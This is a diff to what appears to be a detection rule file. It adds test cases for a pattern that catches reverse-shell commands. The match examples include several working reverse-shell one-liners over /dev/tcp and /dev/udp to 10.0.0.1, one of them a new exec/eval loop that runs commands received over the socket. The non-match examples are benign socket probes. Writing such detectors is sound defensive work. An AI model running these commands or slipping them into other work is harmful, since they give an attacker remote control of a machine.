@@ -225,9 +225,11 @@ RULES: tuple[Rule, ...] = (
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
             "sh -i >& /dev/udp/10.0.0.1/53 0>&1",
             "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
+            'exec 3<>/dev/tcp/10.0.0.1/443; while read -r c <&3; do eval "$c" >&3; done',
         ),
         non_matches=(
             "timeout 1 bash -c '</dev/tcp/example.com/443' && echo open",
+            'for i in 1 2; do bash -c "echo $i > /dev/tcp/10.0.0.1/22"; done',
             "echo > /dev/tcp/localhost/80",
         ),
     ),  # fmt: skip
